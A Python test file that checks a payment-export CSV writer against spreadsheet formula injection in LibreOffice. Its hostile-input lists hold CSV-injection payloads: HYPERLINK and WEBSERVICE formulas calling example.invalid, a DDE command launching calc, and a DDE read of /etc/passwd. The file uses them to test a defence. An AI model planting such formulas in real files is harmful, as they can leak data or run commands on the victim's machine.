"""
LibreOffice opens our CSV files: nothing in them is a formula, texts come through, amounts add up.
"""

import re
from decimal import Decimal
from itertools import product

import pytest
from tests.requirements import program
from tests.spreadsheet import Office

from streampay_export._core.catalog import Dataset, Field
from streampay_export._core.cut import OutputField
from streampay_export.testing.hostile import HOSTILE_TEXTS
from streampay_export.writers import CsvWriter, unguard

pytestmark = pytest.mark.promise

# Design decision 10, character by character.
LEADS = ["=", "+", "-", "@", "\0", "\0=", "＝", "＋", "－", "＠"]
LOOKED_PAST = ["", " ", '"', "\ufeff", "\u200b", "\u200c", "\u200d", "\u2060", '  "\ufeff\u200b"']
PLACES = ["", "a;", ";", "a\t", "\t", "a\r", "\r", "a\n", "\n", "a\r\n", "\r\n", "1;;", '";', "';"]
FORMULAS = ["1+1", 'HYPERLINK("http://example.invalid/?"&A1;"click")', "SUM(1,1)*cmd|' /C calc'!A0"]
MORE = [
    '=DDE("soffice";"/etc/passwd";"a")',
    '=WEBSERVICE("http://example.invalid/")',
    "{=1+1}",
    "=1+1,=1+1",
    '"=1+1"',
    '","=1+1',
    '"\r\n=1+1',
    "'=1+1",
    "''=1+1",
    "=1+1;=1+1\t=1+1",
    "=1+1;=1+1\r\n=1+1",  # LibreOffice drops TABs from cells of several lines
]
HOSTILE = [
    place + past + lead + formula for place, past, lead, formula in product(PLACES, LOOKED_PAST, LEADS, FORMULAS)
]
HOSTILE += [*MORE, *HOSTILE_TEXTS]

FIRST = OutputField(name="first", type="text", description="")
ID = OutputField(name="id", type="integer", description="")
MEMO = OutputField(name="memo", type="text", description="")
AMOUNT = OutputField(name="amount", type="decimal", description="")
TABLE = Dataset(
    name="payouts", table="payouts", key=["id"], subject=["id"], fields=[Field(name="id", type="integer")]
)


def written(folder, name, fields, *columns, bom=False):
    """
    Write a file as an export does.
    """
    encoder = CsvWriter(bom=bom).encoder(TABLE, fields)
    file = folder / name
    file.write_bytes(encoder.head + encoder.page(columns) + encoder.tail)
    return file


@pytest.fixture
def office(tmp_path):
    """
    LibreOffice, with a profile of its own.
    """
    return Office(soffice=program("soffice", package="libreoffice-calc"), folder=tmp_path)


@pytest.fixture
def files(tmp_path):
    """
    The hostile texts after a number and at the start of a line, with and without a BOM before them all.
    """
    numbers = [str(number) for number in range(len(HOSTILE))]
    return [
        written(tmp_path, "memo.csv", [ID, MEMO, AMOUNT], numbers, HOSTILE, [f"-{each}.5" for each in numbers]),
        written(tmp_path, "first.csv", [FIRST, ID], HOSTILE, numbers),
        written(tmp_path, "bom.csv", [FIRST, ID], HOSTILE, numbers, bom=True),
        written(tmp_path, "alone.csv", [FIRST], HOSTILE),
    ]


@pytest.mark.parametrize("quoted_is_text", [False, True], ids=["by its look", "quoted is text"])
@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "TAB"])
def test_no_cell_is_a_formula(office, files, separator, quoted_is_text):
    """
    Whatever the file is split on, nothing in it is calculated, linked or fetched.
    """
    for sheet in office.sheets(files, separator, quoted_is_text=quoted_is_text):
        assert len(sheet) > len(HOSTILE) * 0.9
        assert [] == [cell for row in sheet for cell in row if cell.formula is not None]


def test_texts_come_through(office, files):
    """
    After the undo each cell is the text it was, but for what a spreadsheet cannot hold: line ends become one
    kind, control characters and U+FFFE go.
    """
    memo, first, *_ = office.sheets(files, ",", quoted_is_text=True)
    assert [held(text) for text in HOSTILE] == [unguard(row[1].text) for row in memo[1:]]
    assert [held(text) for text in HOSTILE] == [unguard(row[0].text) for row in first[1:]]
    assert [f"-{number}.5" for number in range(len(HOSTILE))] == [row[2].number for row in memo[1:]]


def test_the_guard_is_what_keeps_formulas_out(office, tmp_path):
    """
    The same texts without the guard are formulas: LibreOffice would have told.
    """
    raw = tmp_path / "raw.csv"
    raw.write_text('a,b\r\n1,"=1+1"\r\n2,"\0=1+1"\r\n3,"x;=1+1"\r\n', encoding="utf-8", newline="")

    found = {
        separator: len([cell for row in office.sheets([raw], separator)[0] for cell in row if cell.formula])
        for separator in ",;"
    }
    assert found[","] == 2
    assert found[";"] >= 1


def test_amounts_add_up(office, tmp_path):
    """
    The sum LibreOffice makes of a column is our control total, to the last of seven digits.
    """
    amounts = [Decimal(number * 7919 % 9_999_991 - 4_000_000).scaleb(-7) + number % 1000 for number in range(5000)]
    texts = [format(each, "f") for each in amounts]
    file = written(tmp_path, "amounts.csv", [ID, MEMO, AMOUNT], list(map(str, range(5000))), ["x"] * 5000, texts)

    assert sum(amounts) == round(Decimal(office.sum(file, 2)), 7)


def held(text):
    """
    Return what a spreadsheet can hold of a text.
    """
    return re.sub(r"[\0-\x08\x0b-\x1f\ufffe]", "", re.sub(r"\r\n?", "\n", text))
